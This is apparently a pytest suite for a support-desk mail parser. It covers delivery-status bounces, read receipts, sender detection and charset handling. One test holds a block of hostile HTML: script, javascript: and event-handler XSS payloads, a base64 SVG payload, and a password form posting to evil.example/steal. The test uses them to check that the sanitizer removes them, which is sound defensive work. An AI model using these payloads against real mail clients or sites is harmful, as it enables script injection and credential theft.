"""Mail as it really arrives (issue 19): a generic status gives way to the server's specific one, a report
about one recipient of a message sent to several marks that recipient only, read receipts are automatic, a
person writing from postmaster@ is a person writing, a subject or an image alone still reaches a case, the
sender is found where clients really put it, and charsets are read as clients mean them."""

import pytest

from frontline.cases.models import Case
from frontline.core import clock
from frontline.customers import services as customers
from frontline.delivery.models import DeliveryAttempt
from frontline.intake.mail import UnreadableMail
from frontline.intake.mail import parse as mail_parse
from frontline.intake.models import RawStatus
from frontline.intake.tests.helpers import deliver, mail, sent_to

pytestmark = pytest.mark.django_db


def report(*blocks: str, about: str = "<ours-1@frontline.invalid>") -> bytes:
    return (
        "From: Mail Delivery System <MAILER-DAEMON@mx.example.net>\r\n"
        "To: support@frontline.invalid\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\n"
        "Message-ID: <dsn-77@mx.example.net>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="B"\r\n\r\n'
        "--B\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
        "--B\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.net\r\n\r\n"
        + "\r\n".join(blocks)
        + "\r\n--B\r\nContent-Type: text/rfc822-headers\r\n\r\n"
        f"Message-ID: {about}\r\nSubject: Planned maintenance\r\n--B--\r\n"
    ).encode()


@pytest.fixture
def sent(db):
    """One message of ours (one Message-ID) sent to three addresses of one customer."""
    customer = customers.create_customer(name="Castle Property Management", customer_since=clock.now().date())
    addresses = ("ops@castle-pm.example", "helen@castle-pm.example", "it@castle-pm.example")
    return sent_to(customer, addresses, "<ours-1@frontline.invalid>")


def _state(attempt: DeliveryAttempt) -> tuple[str, str, str]:
    attempt.refresh_from_db()
    attempt.contact_point.refresh_from_db()
    return attempt.status, attempt.report_status, attempt.contact_point.state


def test_a_report_about_one_recipient_marks_that_recipient_only(sent):
    # when the report names the second of the three addresses our one message went to
    deliver(
        report(
            "Final-Recipient: rfc822; helen@castle-pm.example\r\nAction: failed\r\nStatus: 5.1.1\r\n"
            "Diagnostic-Code: smtp; 550 5.1.1 <helen@castle-pm.example>: no such user"
        )
    )
    # then that send bounced and that address is failing; the other two are untouched
    assert _state(sent["helen@castle-pm.example"]) == ("bounced", "5.1.1", "failing")
    assert _state(sent["ops@castle-pm.example"]) == ("accepted", "", "unverified")
    assert _state(sent["it@castle-pm.example"]) == ("accepted", "", "unverified")


def test_a_generic_status_gives_way_to_the_servers_specific_code(sent):
    # sisimai's lhost-courier-01 and rfc3464-51 shapes: Status 5.0.0 over "550 5.1.1", and "#5.1.0"
    deliver(
        report(
            "Final-Recipient: rfc822; ops@castle-pm.example\r\nAction: failed\r\nStatus: 5.0.0\r\n"
            "Diagnostic-Code: smtp; 550 5.1.1 <ops@castle-pm.example>... User Unknown",
            "",
            "Final-Recipient: rfc822; it@castle-pm.example\r\nAction: failed\r\nStatus: 5.0.0\r\n"
            "Diagnostic-Code: X-Notes; #5.1.0 Address rejected",
        )
    )
    assert _state(sent["ops@castle-pm.example"]) == ("bounced", "5.1.1", "failing")
    assert _state(sent["it@castle-pm.example"]) == ("bounced", "5.1.0", "failing")


def test_a_permanent_status_with_no_action_line_is_a_bounce_not_a_delay(sent):
    # lhost-sendmail-13's shape: Status 5.3.0, no Action
    deliver(
        report(
            "Final-Recipient: rfc822; ops@castle-pm.example\r\nStatus: 5.3.0\r\nDiagnostic-Code: smtp; 554"
        )
    )
    assert _state(sent["ops@castle-pm.example"]) == ("bounced", "5.3.0", "unverified")  # not an address fault


def test_a_report_about_our_own_sending_address_does_not_condemn_theirs(sent):
    deliver(
        report(
            "Final-Recipient: rfc822; ops@castle-pm.example\r\nAction: failed\r\nStatus: 5.1.8\r\n"
            "Diagnostic-Code: smtp; 553 5.1.8 Sender address domain does not exist"
        )
    )
    assert _state(sent["ops@castle-pm.example"]) == ("bounced", "5.1.8", "unverified")


def test_a_plain_text_bounce_names_its_recipient_and_the_reply_line_decides(sent):
    # a notice in words only, as qmail writes it (no delivery-status part, no Auto-Submitted)
    raw = (
        b"Return-Path: <>\r\nFrom: MAILER-DAEMON@mx.castle-pm.example\r\nTo: support@frontline.invalid\r\n"
        b"Subject: failure notice\r\nMessage-ID: <qmail-1@mx.castle-pm.example>\r\n\r\n"
        b"Hi. This is the qmail-send program at mx.castle-pm.example.\r\n"
        b"I'm afraid I wasn't able to deliver your message to the following addresses.\r\n"
        b"This is a permanent error; I've given up. Sorry it didn't work out.\r\n\r\n"
        b"<ops@castle-pm.example>:\r\nRemote host said: 550 5.1.1 <ops@castle-pm.example>... User Unknown\r\n"
        b"Giving up on 192.0.2.153.\r\n\r\n--- Below this line is a copy of the message.\r\n\r\n"
        b"Message-ID: <ours-1@frontline.invalid>\r\nSubject: Planned maintenance\r\n"
    )
    row = deliver(raw)
    assert row.status == RawStatus.REPORT
    assert _state(sent["ops@castle-pm.example"]) == ("bounced", "5.1.1", "failing")
    assert _state(sent["helen@castle-pm.example"])[0] == "accepted"


def test_a_read_receipt_is_automatic_mail_and_opens_no_case(sam, mailoutbox):
    receipt = (
        b"From: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\n"
        b"Subject: Read: Planned maintenance\r\nMessage-ID: <mdn-1@walkerblog.example>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/report; report-type=disposition-notification; boundary="R"\r\n\r\n'
        b"--R\r\nContent-Type: text/plain\r\n\r\nYour message was displayed.\r\n"
        b"--R\r\nContent-Type: message/disposition-notification\r\n\r\n"
        b"Reporting-UA: walkerblog.example; Thunderbird\r\n"
        b"Final-Recipient: rfc822; sam@walkerblog.example\r\n"
        b"Original-Message-ID: <ours-1@frontline.invalid>\r\n"
        b"Disposition: manual-action/MDN-sent-manually; displayed\r\n--R--\r\n"
    )
    row = deliver(receipt)
    assert row.status == RawStatus.IGNORED and "read receipt" in row.reason
    assert not Case.objects.exists() and mailoutbox == []  # and nobody is sent an acknowledgement


def test_a_person_writing_from_postmaster_reaches_a_case(sam, sam_person):
    customers.add_contact_point(person=sam_person, kind="email", value="postmaster@walkerblog.example")
    row = deliver(
        mail(sender="Sam Walker <postmaster@walkerblog.example>", subject="Our MX rejects your relay")
    )
    assert row.status == RawStatus.PROCESSED and row.case.customer == sam


# ---- item 6: a subject and nothing else, or an image and nothing else, is still someone writing ----------


def test_a_mail_with_only_a_subject_reaches_a_case(sam):
    raw = b"From: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\n"
    raw += b"Subject: Server down\r\n\r\n"
    row = deliver(raw)
    assert row.status == RawStatus.PROCESSED and row.case.subject == "Server down"
    assert row.case.messages.get().body_text == "Server down"


def test_a_mail_with_only_an_image_reaches_a_case_with_the_image(sam):
    raw = (
        b"From: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\nSubject: \r\n"
        b"MIME-Version: 1.0\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"iVBORw0KGgo=\r\n"
    )
    row = deliver(raw)
    assert row.status == RawStatus.PROCESSED
    assert row.case.messages.get().attachments.get().content_type == "image/png"


# ---- item 7: finding the sender --------------------------------------------------------------------------


def test_a_broken_first_from_gives_way_to_the_second(sam):
    raw = (
        b"From: <>\r\nFrom: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\n"
        b"Subject: Blog down\r\n\r\n503 again\r\n"
    )
    row = deliver(raw)
    assert row.status == RawStatus.PROCESSED and row.case.customer == sam


def test_no_from_but_a_reply_to_names_the_sender(sam):
    raw = (
        b"Reply-To: Sam Walker <sam@walkerblog.example>\r\nTo: support@frontline.invalid\r\n"
        b"Subject: Blog down\r\n\r\n503 again\r\n"
    )
    row = deliver(raw)
    assert row.status == RawStatus.PROCESSED and row.case.customer == sam


def test_a_name_given_as_a_comment_is_kept():
    parsed = mail_parse(
        b"From: marc.smith@example.com (Marc Smith)\r\nTo: s@x.example\r\nSubject: Hi\r\n\r\nhello\r\n"
    )
    assert (parsed.from_name, parsed.from_address) == ("Marc Smith", "marc.smith@example.com")


# ---- item 8: charsets as clients use them, and files that are not mail -------------------------------------


def test_a_gb2312_label_over_gbk_bytes_reads_as_the_sender_wrote_it():
    # 服 and 务 are in GB2312; 剙 (0x84 0x80) is only in GBK, which mail clients send under the GB2312 label
    raw = (
        b"From: li@example.cn\r\nTo: s@x.example\r\nSubject: =?GB2312?B?xOO6w7f+zvHG9w==?=\r\n"
        b"Content-Type: text/plain; charset=gb2312\r\n\r\n\xb7\xfe\xce\xf1\x84\x80\r\n"
    )
    parsed = mail_parse(raw)
    assert parsed.subject == "你好服务器" and parsed.text == "服务剙"


def test_latin1_labelled_windows_1252_and_an_8bit_attachment_name():
    raw = (
        "From: Kunde <kunde@example.de>\r\nTo: s@x.example\r\nSubject: Anhang\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\r\nGr\xfc\xdfe \u20ac 5\r\n"
        "--b\r\nContent-Type: application/pdf\r\n"
        'Content-Disposition: attachment; filename="Pr\xfcfbericht.pdf"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n"
    ).encode("cp1252")  # the euro sign is 0x80 in Windows-1252, a control character in ISO-8859-1
    parsed = mail_parse(raw)
    assert parsed.text == "Grüße € 5" and parsed.attachments[0].filename == "Prüfbericht.pdf"


def test_an_outlook_msg_file_is_refused_for_what_it_is():
    with pytest.raises(UnreadableMail, match=r"Outlook \.msg"):
        mail_parse(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)


# ---- item 12: hostile HTML ------------------------------------------------------------------------------

HOSTILE = """<html><head><style>body{background:url(javascript:alert(1))}</style>
<script>alert('script')</script></head><body onload="alert('onload')">
<p style="width: expression(alert('css'))">Hello</p>
<a href="javascript:alert('link')">click</a> <a href="JaVaScRiPt:alert(2)">again</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<img src="x" onerror="alert('img')"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<svg><script>alert('svg')</script></svg><math><mtext><script>alert(3)</script></mtext></math>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Go</button></form>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<img src="https://tracker.example/pixel.gif" width="1" height="1"> the end</body></html>"""


def test_hostile_html_keeps_the_words_and_loses_everything_that_runs_or_reaches_out():
    raw = (
        b"From: someone@example.net\r\nTo: s@x.example\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE.encode()
    )
    parsed = mail_parse(raw)
    html = parsed.html.lower()
    for runs in (
        "<script",
        "onload",
        "onerror",
        "javascript:",
        "expression(",
        "<iframe",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<meta",
        "<base",
        "data:text/html",
        "data:image/svg",
        "<style",
        "<svg",
    ):
        assert runs not in html, runs
    assert "hello" in html and "the end" in html and "click" in html
    # a remote image is kept: the case page shows it as a placeholder until an agent loads it
    assert "tracker.example" in html
    assert "hello" in parsed.text.lower() and "alert" not in parsed.text


def test_a_received_message_parses_each_header_once_and_again_after_a_change():
    """Intake reads each header once (policy.default parses on every look); a change is seen at once."""
    import email
    from email import policy

    from frontline.intake.mail import ReceivedMessage

    raw = b'From: a@example.com\r\nContent-Type: text/plain; charset="utf-8"\r\nX-Tag: one\r\n\r\nhello\r\n'
    msg = email.message_from_bytes(raw, _class=ReceivedMessage, policy=policy.default)

    assert msg["X-Tag"] is msg["x-tag"]  # the same parsed header, not a new one
    assert msg.get("X-Missing", "none") == "none" and msg.get("X-Missing") is None

    msg.set_param("charset", "iso-8859-1")
    msg.replace_header("X-Tag", "two")
    msg["X-Missing"] = "here now"
    assert msg.get_content_charset() == "iso-8859-1"
    assert (msg["X-Tag"], msg["X-Missing"]) == ("two", "here now")
    del msg["X-Tag"]
    assert msg["X-Tag"] is None
